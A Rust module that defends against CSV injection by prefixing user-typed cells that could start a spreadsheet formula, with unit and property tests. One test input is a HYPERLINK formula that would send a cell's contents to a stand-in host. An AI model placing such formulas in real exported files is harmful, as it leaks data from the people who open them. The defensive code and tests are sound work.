//! What the system may put in a cell of a CSV it writes: text typed by
//! someone (a company's name, a bank's, an estate's) is neutralised so that
//! a spreadsheet opening the file never reads it as a formula.
//!
//! OWASP's rule for CSV injection: a cell that begins with `=`, `+`, `-`,
//! `@`, a tab or a carriage return is prefixed with `'`, which Excel, WPS
//! and LibreOffice show as text and do not evaluate. The CSV writer then
//! quotes the cell as it needs (embedded quotes, commas, newlines).
//!
//! Names are still accepted as typed (a bank's name may begin with a sign);
//! only the cell is changed. Numbers the system itself writes (amounts,
//! counts, dates) are never passed through here and stay numbers.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula.
pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `text` as a cell that no spreadsheet evaluates.
pub fn text_cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) { Cow::Owned(format!("'{text}")) } else { Cow::Borrowed(text) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cell_that_could_start_a_formula_is_prefixed_and_no_other() {
        for bad in ["=HYPERLINK(\"http://x/?\"&G6,\"详情\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=", "-"] {
            let cell = text_cell(bad);
            assert_eq!(cell, format!("'{bad}"), "{bad:?}");
        }
        for fine in ["深圳市安居物业服务有限公司", "中国银行 (深圳分行)", "'=already", "", " =1", "1=1", "A-1"]
        {
            assert_eq!(text_cell(fine), fine, "{fine:?}");
        }
    }

    proptest::proptest! {
        /// Whatever text arrives, the cell never begins with a formula
        /// character, and removing the one prefix gives the text back.
        #[test]
        fn no_cell_begins_a_formula_and_nothing_is_lost(text in "\\PC{0,40}") {
            let cell = text_cell(&text);
            proptest::prop_assert!(!cell.starts_with(FORMULA_STARTS));
            let back = if cell.len() > text.len() { &cell[1..] } else { &cell[..] };
            proptest::prop_assert_eq!(back, text.as_str());
        }
    }
}
